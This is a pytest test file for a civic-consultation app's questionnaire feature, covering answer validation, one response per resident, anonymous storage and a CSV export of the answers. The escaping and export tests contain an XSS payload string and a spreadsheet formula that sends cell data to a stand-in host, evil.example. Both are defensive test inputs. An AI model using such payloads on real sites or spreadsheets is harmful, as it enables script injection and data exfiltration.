import csv
import io
import re
from datetime import timedelta
from functools import partial

import pytest
import sqlalchemy as sa
from sqlalchemy.exc import IntegrityError

from plaza.accounts.models import Role
from plaza.errors import RuleBroken
from plaza.extensions import db
from plaza.phases import PhaseKind
from plaza.questionnaires import services
from plaza.questionnaires.models import Answer, Question, QuestionKind, Questionnaire, Response
from plaza.questionnaires.services import QuestionPlan
from tests.conftest import count, login, make_process, make_user, submit

URL = "/processes/riverside-park/questionnaire"
# The consultation of these tests: the shared builder with a week of deliberation, running now.
riverside_park = partial(make_process, kind=PhaseKind.DELIBERATION, title="Riverside park", slug="riverside-park",
                         lasts=timedelta(days=7))


def make_questionnaire(process=None) -> Questionnaire:
    process = process or riverside_park()
    return services.create_questionnaire(make_user(Role.ORGANISER), process, "The park", "Tell us.", [
        QuestionPlan("How often do you visit?", QuestionKind.SINGLE_CHOICE, ["Every day", "Every week", "Rarely"]),
        QuestionPlan("What matters most?", QuestionKind.MULTIPLE_CHOICE, ["Benches", "Lighting", "Toilets"],
                     max_choices=2),
        QuestionPlan("Anything else?", QuestionKind.FREE_TEXT, required=False),
    ])


def ids(questionnaire: Questionnaire):
    """(often, matters, else) questions and their option ids."""
    often, matters, other = questionnaire.questions
    return often, matters, other, [o.id for o in often.options], [o.id for o in matters.options]


def form_data(questionnaire, often=None, matters=(), text="", step="confirm"):
    first, second, third, _often_ids, _matters_ids = ids(questionnaire)
    data = {"step": step, f"q-{second.id}": [str(value) for value in matters], f"q-{third.id}": text}
    if often is not None:
        data[f"q-{first.id}"] = [str(value) for value in (often if isinstance(often, list) else [often])]
    return data


def test_resident_answers_checks_and_sends(client):
    questionnaire = make_questionnaire()
    often, matters, other, often_ids, matters_ids = ids(questionnaire)
    login(client, make_user())

    page = client.get(URL).get_data(as_text=True)
    assert page.count("<fieldset") == 3 and page.count("<legend") == 3
    assert page.count('type="radio"') == 3 and page.count('type="checkbox"') == 3 and "<textarea" in page
    assert "(required)" in page and "(optional)" in page

    checked = submit(client, URL, form_data(questionnaire, often_ids[1], matters_ids[:2], "More shade", "check"))
    page = checked.get_data(as_text=True)
    assert checked.status_code == 200
    assert "Check your answers" in page and "Send my answers" in page and 'name="step" value="confirm"' in page
    assert "Every week" in page and "Lighting" in page and "More shade" in page
    assert count(Response) == 0  # nothing is saved before the final button

    sent = submit(client, URL, form_data(questionnaire, often_ids[1], matters_ids[:2], "More shade"))
    assert sent.status_code == 302 and sent.headers["Location"].endswith(URL + "/thanks")
    assert "Your answers are sent" in client.get(URL + "/thanks").get_data(as_text=True)
    response = db.session.scalar(sa.select(Response))
    answers = {(a.question_id, a.option_id, a.text) for a in response.answers}
    assert answers == {(often.id, often_ids[1], None), (matters.id, matters_ids[0], None),
                       (matters.id, matters_ids[1], None), (other.id, None, "More shade")}


def test_change_my_answers_goes_back_to_the_filled_in_form(client):
    questionnaire = make_questionnaire()
    _often, _matters, _other, often_ids, matters_ids = ids(questionnaire)
    login(client, make_user())
    data = {**form_data(questionnaire, often_ids[2], matters_ids[:1], "Quiet please"), "change": "1"}
    page = submit(client, URL, data).get_data(as_text=True)
    assert f'value="{often_ids[2]}" checked' in page and "Quiet please</textarea>" in page
    assert count(Response) == 0


def test_a_response_stores_no_account_link(app):
    assert set(Response.__table__.columns.keys()) == {"id", "questionnaire_id", "respondent_key", "created_at"}
    questionnaire = make_questionnaire()
    user = make_user()
    _often, _matters, _other, often_ids, matters_ids = ids(questionnaire)
    services.submit_response(user, questionnaire, {questionnaire.questions[0].id: [often_ids[0]],
                                                   questionnaire.questions[1].id: [matters_ids[0]]})
    key = db.session.scalar(sa.select(Response.respondent_key))
    assert re.fullmatch(r"[0-9a-f]{64}", key) and str(user.id) != key


def test_second_response_by_the_same_resident_is_refused_and_one_is_stored(client):
    questionnaire = make_questionnaire()
    often, matters, _other, often_ids, matters_ids = ids(questionnaire)
    resident = make_user()
    answers = {often.id: [often_ids[0]], matters.id: [matters_ids[0]]}
    services.submit_response(resident, questionnaire, answers)
    with pytest.raises(RuleBroken, match="already answered"):
        services.submit_response(resident, questionnaire, {often.id: [often_ids[2]], matters.id: [matters_ids[2]]})
    assert count(Response) == 1 and count(Answer) == 2

    login(client, resident)
    assert "You have already answered" in client.get(URL).get_data(as_text=True)
    again = submit(client, URL, form_data(questionnaire, often_ids[1], matters_ids[:1]))
    assert again.status_code == 409 and "already answered" in again.get_data(as_text=True)
    assert count(Response) == 1 and count(Answer) == 2


def test_another_resident_may_answer_too(app):
    questionnaire = make_questionnaire()
    often, matters, _other, often_ids, matters_ids = ids(questionnaire)
    for _ in range(2):
        services.submit_response(make_user(), questionnaire, {often.id: [often_ids[0]], matters.id: [matters_ids[0]]})
    assert count(Response) == 2


@pytest.mark.parametrize("kind, starts_in", [
    (PhaseKind.DELIBERATION, timedelta(days=2)),  # not started yet
    (PhaseKind.DELIBERATION, timedelta(days=-30)),  # over
    (PhaseKind.PROPOSALS, timedelta(days=-1)),  # active, but without the questionnaire component
])
def test_answering_outside_a_questionnaire_phase_is_refused(client, kind, starts_in):
    questionnaire = make_questionnaire(riverside_park(kind=kind, starts_in=starts_in))
    often, matters, _other, often_ids, matters_ids = ids(questionnaire)
    resident = make_user()
    login(client, resident)
    page = client.get(URL)
    assert page.status_code == 403 and "not possible in the current phase" in page.get_data(as_text=True)
    posted = submit(client, URL, form_data(questionnaire, often_ids[0], matters_ids[:1]), form_url="/account/")
    assert posted.status_code == 403
    with pytest.raises(RuleBroken) as refused:
        services.submit_response(resident, questionnaire, {often.id: [often_ids[0]], matters.id: [matters_ids[0]]})
    assert refused.value.status == 403
    assert count(Response) == 0 and count(Answer) == 0


def test_visitors_are_asked_to_sign_in(client):
    make_questionnaire()
    response = client.get(URL)
    assert response.status_code == 302 and "/account/login" in response.headers["Location"]


INVALID = {
    "required question unanswered": (lambda o, m: dict(often=None, matters=m[:1]), "Choose an answer to this"),
    "required multiple choice unanswered": (lambda o, m: dict(often=o[0], matters=()), "Choose at least one"),
    "two options on single choice": (lambda o, m: dict(often=o[:2], matters=m[:1]), "Choose only one answer"),
    "too many options": (lambda o, m: dict(often=o[0], matters=m[:3]), "Choose at most 2 answers"),
    "option of another question": (lambda o, m: dict(often=m[0], matters=m[:1]), "Choose from the answers offered"),
    "not a number": (lambda o, m: dict(often="abc", matters=m[:1]), "Choose from the answers offered"),
    "oversized text": (lambda o, m: dict(often=o[0], matters=m[:1], text="x" * 5001), "at most 5000 characters"),
}


@pytest.mark.parametrize("step", ["check", "confirm"])
@pytest.mark.parametrize("case", INVALID.values(), ids=INVALID.keys())
def test_invalid_answers_are_refused_with_a_message_and_nothing_is_written(client, case, step):
    questionnaire = make_questionnaire()
    _often, _matters, _other, often_ids, matters_ids = ids(questionnaire)
    answers, message = case
    login(client, make_user())
    response = submit(client, URL, form_data(questionnaire, **answers(often_ids, matters_ids), step=step))
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert message in page and "There is a problem" in page and "<title>Error:" in page
    assert count(Response) == 0 and count(Answer) == 0


def test_error_summary_links_to_the_first_input_of_each_question(client):
    questionnaire = make_questionnaire()
    often, matters, _other, often_ids, _matters_ids = ids(questionnaire)
    login(client, make_user())
    page = submit(client, URL, form_data(questionnaire, step="check")).get_data(as_text=True)
    assert f'href="#q-{often.id}-{often_ids[0]}"' in page
    assert f'href="#q-{matters.id}-{matters.options[0].id}"' in page
    assert f'id="q-{often.id}-{often_ids[0]}"' in page


def test_forged_answers_are_refused_by_the_service(app):
    questionnaire = make_questionnaire()
    often, matters, other, often_ids, matters_ids = ids(questionnaire)
    resident = make_user()
    for forged in ({often.id: [matters_ids[0]], matters.id: [matters_ids[0]]},  # option of another question
                   {often.id: [often_ids[0]], matters.id: [matters_ids[0]], 99999: "?"},  # unknown question
                   {often.id: "Every day", matters.id: [matters_ids[0]]},  # text for a choice
                   {often.id: [often_ids[0]], matters.id: [matters_ids[0]], other.id: [often_ids[0]]}):
        with pytest.raises(services.AnswersRefused):
            services.submit_response(resident, questionnaire, forged)
    assert count(Response) == 0 and count(Answer) == 0


def test_the_database_refuses_an_option_of_another_question(app):
    questionnaire = make_questionnaire()
    often, _matters, _other, _often_ids, matters_ids = ids(questionnaire)
    db.session.add(Response(questionnaire_id=questionnaire.id, respondent_key="k" * 64,
                            answers=[Answer(question_id=often.id, option_id=matters_ids[0])]))
    with pytest.raises(IntegrityError):
        db.session.commit()
    db.session.rollback()


def test_free_text_answers_are_plain_text_stored_as_typed_and_escaped_when_shown(client):
    questionnaire = make_questionnaire()
    _often, _matters, other, often_ids, matters_ids = ids(questionnaire)
    hostile = ('<script>alert(1)</script><img src=x onerror="alert(2)"><b>Hello</b> '
               '<a href="javascript:alert(3)">link</a>')
    login(client, make_user())
    check = submit(client, URL, form_data(questionnaire, often_ids[0], matters_ids[:1], hostile, "check"))
    page = check.get_data(as_text=True)
    assert check.status_code == 200 and "<script>" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    sent = submit(client, URL, form_data(questionnaire, often_ids[0], matters_ids[:1], hostile))
    assert sent.status_code == 302
    assert db.session.scalar(sa.select(Answer.text).where(Answer.question_id == other.id)) == hostile


def answer_as(user, questionnaire, often, matters, text=""):
    first, second, third = questionnaire.questions
    services.submit_response(user, questionnaire, {first.id: [first.options[often].id],
                                                   second.id: [second.options[i].id for i in matters],
                                                   third.id: text})


def test_csv_export_is_anonymous_safe_and_readable_in_spreadsheets(client):
    questionnaire = make_questionnaire()
    amira = make_user(email="amira.haddad@example.org", name="Amira Haddad")
    jisoo = make_user(email="jisoo.kim@example.org", name="Jisoo Kim")
    answer_as(amira, questionnaire, 0, [0, 2], '=HYPERLINK("http://evil.example/?"&A1,"click")')
    answer_as(jisoo, questionnaire, 2, [1], "공원이 좋아요 <b>حديقة</b>\n\nSecond paragraph")
    login(client, make_user(Role.ORGANISER))

    response = client.get(URL + "/answers.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.data.startswith(b"\xef\xbb\xbf")
    text = response.data.decode("utf-8-sig")
    for personal in ("amira", "Amira", "Haddad", "jisoo", "Jisoo", "example.org"):
        assert personal not in text
    keys = db.session.scalars(sa.select(Response.respondent_key)).all()
    assert keys and not any(key in text for key in keys)

    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == ["Date", "1. How often do you visit?", "2. What matters most?", "3. Anything else?"]
    assert len(rows) == 2 and all(len(row) == 4 for row in rows)
    user_ids = {str(amira.id), str(jisoo.id)}
    assert not any(cell in user_ids for row in rows for cell in row)
    dates = {created.date().isoformat() for created in db.session.scalars(sa.select(Response.created_at))}
    assert {row[0] for row in rows} == dates  # the date only, no time of day
    by_person = {row[1]: row for row in rows}
    assert by_person["Every day"][2] == "Benches; Toilets"
    assert by_person["Every day"][3] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert by_person["Rarely"][3] == "공원이 좋아요 <b>حديقة</b>\n\nSecond paragraph"  # as typed
    expected_order = [services.respondent_key(user, questionnaire) for user in (amira, jisoo)]
    assert [row[1] for row in rows] == [
        "Every day" if key == services.respondent_key(amira, questionnaire) else "Rarely"
        for key in sorted(expected_order)]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_residents_cannot_export_the_answers(client):
    questionnaire = make_questionnaire()
    answer_as(make_user(), questionnaire, 0, [0])
    login(client, make_user())
    assert client.get(URL + "/answers.csv").status_code == 403


QUESTIONS_TEXT = """? How often do you visit the park?
- Every day
- Every week

? Which improvements matter most to you? [multiple 2]
- Benches
- Lighting
- Toilets

? Anything else? [text] [optional]
"""


def test_organiser_creates_a_questionnaire_from_the_text_format(client):
    riverside_park()
    login(client, make_user(Role.ORGANISER))
    assert client.get(URL + "/manage").headers["Location"].endswith(URL + "/new")  # none yet: create one
    data = {"title": "The park", "intro": "Five minutes.", "questions": QUESTIONS_TEXT}
    response = submit(client, URL + "/new", data)
    assert response.status_code == 302 and response.headers["Location"].endswith(URL + "/manage")
    questionnaire = db.session.scalar(sa.select(Questionnaire))
    assert questionnaire.title == "The park"
    assert [(q.position, q.kind, q.required, q.max_choices, [o.text for o in q.options])
            for q in questionnaire.questions] == [
        (1, QuestionKind.SINGLE_CHOICE, True, None, ["Every day", "Every week"]),
        (2, QuestionKind.MULTIPLE_CHOICE, True, 2, ["Benches", "Lighting", "Toilets"]),
        (3, QuestionKind.FREE_TEXT, False, None, []),
    ]
    manage = client.get(URL + "/manage").get_data(as_text=True)
    assert "Download the answers" in manage and "Which improvements matter most to you?" in manage


@pytest.mark.parametrize("questions, message", [
    ("- Every day\n? How often?\n- Daily\n- Weekly", "Line 1: an answer (“-”) must come after its question"),
    ("? How often?\n- Daily", "Line 1: Give a choice question at least two answers"),
    ("? How often? [sometimes]\n- Daily\n- Weekly", "Line 1: we do not know the marker [sometimes]"),
    ("? How often?\n- Daily\n- Weekly\nWeekends", "Line 4: start a question with “?”"),
    ("? Why? [text]\n- Because", "Line 1: A [text] question takes no answers"),
    ("? Which? [multiple 5]\n- A\n- B", "Line 1: The number of choices allowed must be from 1 to"),
    ("? Which? [multiple] [text]", "Line 1: a question is either [multiple] or [text]"),
    ("?\n- A\n- B", "Line 1: write the question after the “?”."),
    ("? Which?\n- A\n- a", "Line 1: The same answer appears twice"),
])
def test_malformed_questions_text_gives_a_clear_error(client, questions, message):
    riverside_park()
    login(client, make_user(Role.ORGANISER))
    response = submit(client, URL + "/new", {"title": "The park", "questions": questions})
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert message in page.replace("&#34;", '"') and 'href="#questions"' in page
    assert count(Questionnaire) == 0 and count(Question) == 0


def test_a_second_questionnaire_for_the_same_consultation_is_refused(app):
    questionnaire = make_questionnaire()
    with pytest.raises(RuleBroken, match="already has a questionnaire"):
        services.create_questionnaire(make_user(Role.ORGANISER), questionnaire.process, "Again", "",
                                      [QuestionPlan("Why?", QuestionKind.FREE_TEXT)])
    assert count(Questionnaire) == 1


def test_residents_cannot_create_questionnaires(client):
    process = riverside_park()
    resident = make_user()
    login(client, resident)
    assert client.get(URL + "/new").status_code == 403
    with pytest.raises(RuleBroken) as refused:
        services.create_questionnaire(resident, process, "Mine", "", [QuestionPlan("Why?", QuestionKind.FREE_TEXT)])
    assert refused.value.status == 403
    assert count(Questionnaire) == 0


def test_unknown_consultation_or_questionnaire_is_not_found(client):
    riverside_park()
    login(client, make_user())
    assert client.get(URL).status_code == 404
    assert client.get("/processes/nowhere/questionnaire").status_code == 404


@pytest.mark.parametrize(("kind", "shown"), [(PhaseKind.DELIBERATION, True), (PhaseKind.INFORMATION, False),
                                             (PhaseKind.VOTING, False)])
def test_the_process_page_offers_the_questionnaire_while_the_phase_enables_it(client, kind, shown):
    riverside_park(kind=kind)
    page = client.get("/processes/riverside-park").get_data(as_text=True)
    assert ("Answer the questionnaire" in page) is shown
    assert (f'href="{URL}"' in page) is shown


@pytest.mark.parametrize(("role", "shown"), [(Role.ORGANISER, True), (Role.ADMIN, True),
                                             (Role.COUNCIL_OFFICER, False)])
def test_the_organiser_page_links_to_the_questionnaire_for_managers_only(client, role, shown):
    riverside_park()
    login(client, make_user(role))
    page = client.get("/processes/riverside-park/manage")
    assert page.status_code == 200
    assert (f'href="{URL}/manage"' in page.get_data(as_text=True)) is shown
